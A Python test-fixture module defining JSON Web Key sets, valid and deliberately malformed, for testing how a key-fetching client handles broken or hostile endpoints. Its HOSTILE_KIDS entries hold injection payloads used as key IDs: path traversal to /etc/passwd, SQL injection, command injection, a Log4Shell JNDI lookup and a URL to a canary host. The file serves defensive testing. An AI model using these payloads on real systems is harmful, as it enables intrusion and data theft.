"""The key sets that cases are judged by: good ones, and what a broken or hostile endpoint might serve."""

from collections.abc import Mapping, Sequence

from tests.client.minting import ABSENT, b64, number
from tests.vectors.rsa_keys import RsaKey, rsa_key

SMALL, CUBIC, LARGE = rsa_key("small", bits=1024), rsa_key("cubic", e=3), rsa_key("large", bits=3072)
HOSTILE_KIDS = {
    "path": "../../../../etc/passwd",
    "query": "first' OR '1'='1",
    "address": "http://canary.example/first",
    "command": "|/usr/bin/id",
    "template": "${jndi:ldap://canary.example/a}",
    "object": "__proto__",
    "method": "constructor",
}


def jwk(name: str = "first", key: RsaKey | None = None, **changes: object) -> dict[str, object]:
    """The public half of `key`, or of the key called `name`, under the kid `name`."""
    key = key or rsa_key(name)
    members = {"kty": "RSA", "use": "sig", "alg": "RS256", "kid": name, "n": number(key.n), "e": number(key.e)}
    return {name: value for name, value in (members | changes).items() if value is not ABSENT}


def key_set(*keys: object, revoked_kids: Sequence[str] = ()) -> dict[str, object]:
    return {"jwks": {"keys": list(keys)}, "revoked_kids": list(revoked_kids)}


ELLIPTIC = {
    "kty": "EC",
    "use": "sig",
    "alg": "ES256",
    "kid": "first",
    "crv": "P-256",
    "x": "axfR8uEsQkf4vOblY6RA8ncDfYEt6zOg9KE5RdiYwpY",
    "y": "T-NC4v4af5uO5-tKfA-eFivOM1drMV7Oy7ZAaDe_UfU",
}
SYMMETRIC = {
    "kty": "oct",
    "use": "sig",
    "alg": "HS256",
    "kid": "first",
    "k": "d29ydGhsZXNzIGFzIGEgc2VjcmV0IG9mIDMyIGJ5dGVz",
}

KEY_SETS: Mapping[str, Mapping[str, object]] = {
    "one": key_set(jwk()),
    "two": key_set(jwk(), jwk("second")),
    "none": key_set(),
    "large": key_set(jwk("large", LARGE)),
    "second_revoked": key_set(jwk(), revoked_kids=["second"]),
    "revoked_and_still_listed": key_set(jwk(), jwk("second"), revoked_kids=["second"]),
    "without_use_and_alg": key_set(jwk(use=ABSENT, alg=ABSENT)),
    "with_foreign_members": key_set(jwk(x5t="ignored", note={"a": [1, None]}, key_ops=["verify"])),
    "broken_neighbours": key_set(
        None, 7, "first", [], {}, jwk("second", n="!"), jwk("third", e=65537, key=LARGE), jwk(), jwk(kid=7), jwk(kid="")
    ),
    "two_keys_under_one_kid": key_set(jwk(), jwk("first", rsa_key("second")), jwk("second")),
    "one_key_twice": key_set(jwk(), jwk(), jwk("second")),
    "twin_for_encryption": key_set(jwk(), jwk("first", rsa_key("second"), use="enc")),
    "elliptic": key_set(ELLIPTIC),
    "elliptic_twin": key_set(ELLIPTIC, jwk()),
    "symmetric": key_set(SYMMETRIC),
    "for_encryption": key_set(jwk(use="enc")),
    "for_rs512": key_set(jwk(alg="RS512")),
    "for_ps256": key_set(jwk(alg="PS256")),
    "for_signing_only": key_set(jwk(key_ops=["sign"])),
    "use_is_null": key_set(jwk(use=None)),
    "lower_case_type": key_set(jwk(kty="rsa")),
    "rsa_1024": key_set(jwk("small", SMALL)),
    "exponent_3": key_set(jwk("cubic", CUBIC)),
    "exponent_1": key_set(jwk(e="AQ")),
    "exponent_with_leading_zero": key_set(jwk(e="AAEAAQ")),
    "exponent_padded": key_set(jwk(e="AQAB==")),
    "modulus_with_leading_zero": key_set(jwk(n=b64(b"\0" + rsa_key("first").n.to_bytes(256)))),
    "modulus_even": key_set(jwk(n=number(rsa_key("first").n - 1))),
    "rsa_9000": key_set(jwk(n=number(2**9000 - 1))),
    "with_its_private_half": key_set(jwk(d="AQAB")),
    "with_its_primes": key_set(jwk(p="AQAB", q="AQAB")),
    "hostile_kids": key_set(*(jwk(kid, rsa_key("first")) for kid in HOSTILE_KIDS.values())),
    "kid_of_128": key_set(jwk("ö" * 128, rsa_key("first"))),
    "kid_of_129": key_set(jwk("k" * 129, rsa_key("first"))),
}
